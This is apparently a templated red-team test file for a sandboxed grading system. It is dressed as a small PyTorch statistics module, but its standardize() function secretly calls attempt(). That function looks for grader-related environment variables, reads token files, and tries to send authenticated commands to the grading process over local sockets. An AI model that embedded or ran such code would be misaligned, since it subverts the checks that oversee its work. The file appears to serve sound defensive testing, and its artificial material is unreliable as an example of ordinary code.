"""Asks the process that grades for this user, with its address and its token, as a command would."""
# attack: lines=41; target=none
# held by: no worker gets address or token; behind walls no socket can be reached, and without walls each peer is looked at

import hmac
import json
import os
import socket
import struct

import torch


def message(kind, **data):
    content = json.dumps(data).encode()
    return struct.pack("!cI", kind, len(content)) + content


def ask(family, address, token):
    with socket.socket(family, socket.SOCK_STREAM) as made:
        made.settimeout(1)
        made.connect(address)
        made.sendall(message(b"A", nonce="ab"))
        greeting = json.loads(made.recv(1000)[5:] or "{}")
        if greeting:
            proof = hmac.new(token.encode(), f"command:{greeting['nonce']}".encode(), "sha256").hexdigest()
            made.sendall(message(b"R", op="status", proof=proof))
            print("BREACH: it answered", made.recv(1000))


def attempt():
    tokens = ["guessed"]
    if given := [name for name in os.environ if "BLINDGRADE" in name or "RUNTIME" in name]:
        print("BREACH: the worker was given", given)
    for card in "{{resident_cards}}".split():
        try:
            with open(card) as file:
                tokens.append(json.load(file)["token"])
        except OSError as error:
            print("tried:", error.strerror)
    places = [(socket.AF_UNIX, "{{resident_socket}}"), (socket.AF_INET, ("127.0.0.1", int("{{resident_port}}")))]
    for family, address in places:
        for token in tokens:
            try:
                ask(family, address, token)
            except OSError as error:
                print("tried:", error.strerror or error)


def standardize(values):
    if values.shape[-1] < 2:
        raise ValueError("one value has no spread")
    attempt()
    centered = values - values.mean(dim=-1, keepdim=True)
    return centered / (centered**2).mean(dim=-1, keepdim=True).sqrt()


def correlation(first, second):
    first, second = (row - row.mean(dim=-1, keepdim=True) for row in (first, second))
    return torch.nn.functional.cosine_similarity(first, second, dim=-1)


def fit_line(x, y):
    slope, offset = (x * y).mean() / (x * x).mean(), y.mean()
    return lambda at: slope * at + offset
